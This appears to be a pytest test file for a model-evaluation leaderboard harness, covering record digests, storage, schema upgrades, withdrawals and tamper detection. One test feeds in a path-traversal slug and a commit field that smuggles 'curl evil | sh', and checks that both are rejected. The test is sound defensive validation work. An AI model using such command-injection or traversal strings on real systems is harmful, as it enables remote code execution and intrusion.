from __future__ import annotations

import json
import os
import re
import shutil
from pathlib import Path
from typing import Any

import msgspec
import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from harness.base.digests import digest_json
from harness.base.errors import ContainerError, UsageError
from harness.base.processor import processor
from harness.base.structs import read_json, write_json
from harness.protocol import Protocol, load_protocol
from harness.records.observe import VALUES, observe, scored_here
from harness.records.schema import Record, failure_of, make_record, rounded
from harness.records.store import keep_protocol, read_protocol, read_record, read_records, record_folder, write_record
from harness.records.withdrawal import read_withdrawals, withdraw
from harness.sandbox import Limits
from harness.submission.manifest import check_slug
from tests.board_records import PROTOCOL, observed, on_another_processor, scored

ROOT = Path(__file__).resolve().parents[2]


def test_neither_id_nor_content_follow_the_circumstances() -> None:
    first, later = scored("a", 1.0), scored("a", 1.0, date="2027-01-01T00:00:00Z")
    assert (first.id, first.content) == (later.id, later.content)
    assert scored("a", 1.0).id != scored("b", 1.0).id


def test_content_has_the_digits_that_features_carry() -> None:
    def content(number: float) -> str | None:
        result = scored("a", 1.0).result
        value = msgspec.structs.replace(result.metrics["KID"]["whole"], value=number)
        return make_record(msgspec.structs.replace(result, metrics={"KID": {"whole": value}}), observed()).content

    assert content(1.0) == content(1.0 + 1e-12)
    assert content(1.0) != content(1.000001)


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_rounding_is_idempotent(number: float) -> None:
    assert rounded(rounded(number)) == rounded(number) == pytest.approx(number, rel=1e-6, abs=1e-300)


def test_nan_never_reaches_a_record() -> None:
    result = scored("a", 1.0).result
    value = msgspec.structs.replace(result.metrics["KID"]["whole"], value=float("nan"))
    with pytest.raises(ValueError, match="cannot stand in a record"):
        make_record(msgspec.structs.replace(result, metrics={"KID": {"whole": value}}), observed())


def test_record_survives_the_disk_with_its_attachments(tmp_path: Path) -> None:
    record = scored("tv", 1.0)
    folder, new = write_record(tmp_path, record, {"slices.csv.gz": b"rows"})
    assert new
    assert folder == tmp_path / "records" / PROTOCOL.identity / "tv" / record.id
    read = read_record(folder)
    assert read.result == record.result
    assert set(read.observed.files) == {"slices.csv.gz"}
    assert [one.id for one in read_records(tmp_path)] == [record.id]


@pytest.mark.parametrize("slug", ["my_model", "a", "a-b_c"])
def test_every_slug_of_a_submission_is_one_of_a_record(tmp_path: Path, slug: str) -> None:
    assert check_slug(slug) == slug
    write_record(tmp_path, scored(slug, 1.0), {})
    assert [one.result.submission.slug for one in read_records(tmp_path)] == [slug]


@pytest.mark.parametrize(
    "record",
    [
        scored("../../../../pwned", 1.0),
        scored("a/b", 1.0),
        scored("a", 1.0, date="yesterday"),
        msgspec.structs.replace(
            scored("a", 1.0), observed=msgspec.structs.replace(observed(), commit="x; curl evil | sh")
        ),
    ],
    ids=["slug", "nested", "date", "commit"],
)
def test_a_record_whose_words_are_no_path_and_no_command_is_not_written(tmp_path: Path, record: Record) -> None:
    with pytest.raises(UsageError, match=r"record\.json: (slug|date|commit): expected"):
        write_record(tmp_path / "leaderboard", record, {})
    assert list(tmp_path.iterdir()) == []


def test_a_record_that_is_no_regular_file_is_refused(tmp_path: Path) -> None:
    folder, _ = write_record(tmp_path, scored("tv", 1.0), {"slices.csv.gz": b"rows"})
    for name in ("slices.csv.gz", "record.json"):
        (folder / name).unlink()
        os.mkfifo(folder / name)
        with pytest.raises(UsageError, match="is not a regular file"):
            read_record(folder)


def test_a_repeated_result_finds_its_record(tmp_path: Path) -> None:
    write_record(tmp_path, scored("tv", 1.0), {})
    folder, new = write_record(tmp_path, scored("tv", 1.0, date="2027-01-01T00:00:00Z"), {})
    assert not new
    assert read_record(folder).observed.date == "2026-01-01T00:00:00Z"


def test_flags_and_notes_stand_only_where_there_are_any(tmp_path: Path) -> None:
    """A result without them digests and reads as before there were any."""
    plain = scored("tv", 1.0)
    folder, _ = write_record(tmp_path, plain, {})
    written = json.loads((folder / "record.json").read_text())
    assert not {"flags", "notes"} & written["result"].keys()
    assert digest_json(read_record(folder).result) == plain.content
    flagged = make_record(msgspec.structs.replace(plain.result, flags=("2 of 4",), notes=("said",)), observed())
    assert (flagged.id == plain.id, flagged.content == plain.content) == (True, False)
    folder, _ = write_record(tmp_path / "other", flagged, {})
    read = read_record(folder).result
    assert (read.flags, read.notes) == (("2 of 4",), ("said",))


def test_every_committed_result_digests_to_its_id_by_todays_code() -> None:
    folders = [path.parent for path in (ROOT / "leaderboard").glob("records/*/*/*/record.json")]
    current = [
        folder for folder in folders if read_json(folder / "record.json", dict[str, Any])["result"]["schema"] == 3
    ]
    assert current
    for folder in current:
        result = msgspec.to_builtins(read_record(folder).result) | {"schema": 3}
        assert digest_json(result)[:16] == folder.name


def alter_value(folder: Path) -> None:
    path = folder / "record.json"
    record = json.loads(path.read_text())
    record["result"]["metrics"]["KID"]["whole"][record["columns"].index("value")] = 0.0
    path.write_text(json.dumps(record))


def truncate(folder: Path) -> None:
    path = folder / "record.json"
    path.write_bytes(path.read_bytes()[:200])


def alter_attachment(folder: Path) -> None:
    (folder / "slices.csv.gz").write_bytes(b"better rows")


def remove_attachment(folder: Path) -> None:
    (folder / "slices.csv.gz").unlink()


@pytest.mark.parametrize("damage", [alter_value, truncate, alter_attachment, remove_attachment])
def test_a_damaged_record_is_refused_by_name(tmp_path: Path, damage: object) -> None:
    folder, _ = write_record(tmp_path, scored("tv", 1.0), {"slices.csv.gz": b"rows"})
    assert callable(damage)
    damage(folder)
    with pytest.raises(UsageError, match=folder.name):
        list(read_records(tmp_path))


@pytest.mark.parametrize(
    "path", sorted((ROOT / "leaderboard" / "records").glob("*/protocol.json")), ids=lambda path: path.parent.name
)
def test_keys_that_are_younger_rewrite_no_protocol(path: Path, tmp_path: Path) -> None:
    copy = tmp_path / "records" / path.parent.name / path.name
    copy.parent.mkdir(parents=True)
    shutil.copy(path, copy)
    protocol = read_json(path, Protocol)
    assert keep_protocol(tmp_path, protocol) == protocol
    assert keep_protocol(tmp_path, msgspec.structs.replace(protocol, official=None)) == protocol
    assert copy.read_bytes() == path.read_bytes()


def test_a_protocol_cannot_change_under_its_records(tmp_path: Path) -> None:
    keep_protocol(tmp_path, PROTOCOL)
    keep_protocol(tmp_path, msgspec.structs.replace(PROTOCOL, title="Better words"))
    assert read_protocol(tmp_path, PROTOCOL.name, PROTOCOL.version).title == "Better words"
    with pytest.raises(UsageError, match="under a different text"):
        keep_protocol(tmp_path, msgspec.structs.replace(PROTOCOL, seed=1))
    keep_protocol(tmp_path, msgspec.structs.replace(PROTOCOL, seed=1, version=PROTOCOL.version + 1))


def test_failure_and_circumstances_are_kept() -> None:
    failure = failure_of(ContainerError("exit status 1", fix="read the log"))
    assert (failure.stage, failure.exit_status, failure.party) == ("run", 20, "submission")
    circumstances = observe(engine="docker 1", image=None, limits=Limits(), lowered=("cpus 4 -> 2",))
    assert circumstances.lowered == ("cpus 4 -> 2",)


def test_circumstances_name_what_last_digits_follow_from(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OMP_NUM_THREADS", "3")
    machine = observe(engine="none", image=None, limits=Limits(), lowered=()).machine
    assert machine["cores"].isdigit()
    assert machine["level"] == processor().level
    assert re.fullmatch(r"torch \d+, numba \d+, OMP_NUM_THREADS 3(, \w+ \d+)*", machine["threads"])
    assert {"python", *VALUES} <= machine.keys()
    assert machine["numpy"] == np.__version__


def test_where_values_were_computed_is_named_where_the_container_ran_elsewhere() -> None:
    here = observe(engine="none", image=None, limits=Limits(), lowered=())
    assert scored_here(here) == here
    assert here.scorer == here.machine
    elsewhere = msgspec.structs.replace(here, machine=here.machine | {"cpu": "another"}, scored_on={"cpu": "a lie"})
    assert scored_here(elsewhere).scorer == here.machine
    assert scored_here(elsewhere).machine["cpu"] == "another"


def test_a_record_of_schema_1_is_verified_as_written_and_brought_up_to_date() -> None:
    """The first board of this repository, written before values had units and replicates."""
    shipped = Path(__file__).resolve().parents[2] / "leaderboard" / "records" / "phantom-1"
    folder = next(path.parent for path in sorted(shipped.glob("tv/*/record.json")))
    assert json.loads((folder / "record.json").read_text())["result"]["schema"] == 1
    value = read_record(folder).result.metrics["KID"]["whole"]
    assert (value.unit, value.without) == ("", {})
    assert value.value > 0


def test_a_record_of_schema_2_is_verified_as_written_and_brought_up_to_date() -> None:
    """Written before records named the implementation of their metrics."""
    shipped = Path(__file__).resolve().parents[2] / "leaderboard" / "records" / "phantom-2"
    folder = next(path.parent for path in sorted(shipped.glob("tv/*/record.json")))
    assert json.loads((folder / "record.json").read_text())["result"]["schema"] == 2
    result = read_record(folder).result
    assert (result.schema, result.self_reported, result.implementations) == (4, False, {})
    assert result.metrics["KID"]["whole"].without


def test_a_withdrawal_is_a_file_of_its_own(tmp_path: Path) -> None:
    record = scored("tv", 1.0)
    folder, _ = write_record(tmp_path, record, {})
    before = (folder / "record.json").read_bytes()
    withdraw(folder, "  trained on the test set ")
    assert {one: found.reason for one, found in read_withdrawals(tmp_path).items()} == {
        record.id: "trained on the test set"
    }
    assert (folder / "record.json").read_bytes() == before
    assert [one.id for one in read_records(tmp_path)] == [record.id]
    with pytest.raises(UsageError, match="already withdrawn: trained on the test set"):
        withdraw(folder, "again")


@pytest.mark.parametrize("reason", ["", "  ", "x" * 1001])
def test_a_withdrawal_needs_a_reason(tmp_path: Path, reason: str) -> None:
    folder, _ = write_record(tmp_path, scored("tv", 1.0), {})
    with pytest.raises(UsageError, match="reason"):
        withdraw(folder, reason)
    assert read_withdrawals(tmp_path) == {}


def test_a_damaged_withdrawal_is_named(tmp_path: Path) -> None:
    folder, _ = write_record(tmp_path, scored("tv", 1.0), {})
    (folder / "withdrawn.json").write_text('{"schema": 1}')
    with pytest.raises(UsageError, match=r"withdrawn\.json"):
        read_withdrawals(tmp_path)


def test_a_leaderboard_keeps_the_official_digests_and_takes_no_others(tmp_path: Path) -> None:
    protocol, without = (load_protocol("phantom-mini", official=official) for official in (True, False))
    assert protocol.official is not None
    keep_protocol(tmp_path, without)
    assert read_protocol(tmp_path, protocol.name, protocol.version).official is None
    assert keep_protocol(tmp_path, protocol) == protocol
    assert keep_protocol(tmp_path, without).official == protocol.official
    assert read_protocol(tmp_path, protocol.name, protocol.version) == protocol
    other = msgspec.structs.replace(protocol, official=msgspec.structs.replace(protocol.official, labels="0" * 64))
    with pytest.raises(UsageError, match="already has records on another official test set") as caught:
        keep_protocol(tmp_path, other)
    assert protocol.official.labels in caught.value.message
    assert "raise the protocol's version" in caught.value.fix
    assert read_protocol(tmp_path, protocol.name, protocol.version) == protocol


def test_a_record_that_lies_elsewhere_is_refused(tmp_path: Path) -> None:
    """A copy with other values and a later date would stand for its submission."""
    right, _ = write_record(tmp_path, scored("tv", 1.0), {})
    for place in (right.parents[1] / "nlm" / right.name, right.parents[2] / "other-1" / "tv" / right.name):
        shutil.copytree(right, place)
        with pytest.raises(UsageError, match="holds a record of another protocol or submission") as caught:
            list(read_records(tmp_path))
        assert str(right) in caught.value.message
        assert str(place) in caught.value.message
        shutil.rmtree(place)
    assert len(list(read_records(tmp_path))) == 1


@pytest.mark.parametrize("off", [0.0, 1e-3])
def test_an_older_schema_is_no_way_to_other_values_of_the_same_identity(tmp_path: Path, off: float) -> None:
    """The id of schema 3 follows from the values, so one result may have two ids; but not two values."""
    record = scored("tv", 1.0)
    write_record(tmp_path, record, {})
    raw = msgspec.to_builtins(on_another_processor(record, off, slug="tv").result) | {"schema": 3}
    folder = record_folder(tmp_path, record).with_name(digest_json(raw)[:16])
    write_json(folder / "record.json", {"id": folder.name, "result": raw, "observed": msgspec.to_builtins(observed())})
    if not off:
        assert len(list(read_records(tmp_path))) == 2
        return
    with pytest.raises(UsageError, match="numbers differ by more than processors and threads explain") as caught:
        list(read_records(tmp_path))
    assert folder.name in caught.value.message
    assert record.id in caught.value.message
    assert "harness audit" in caught.value.fix
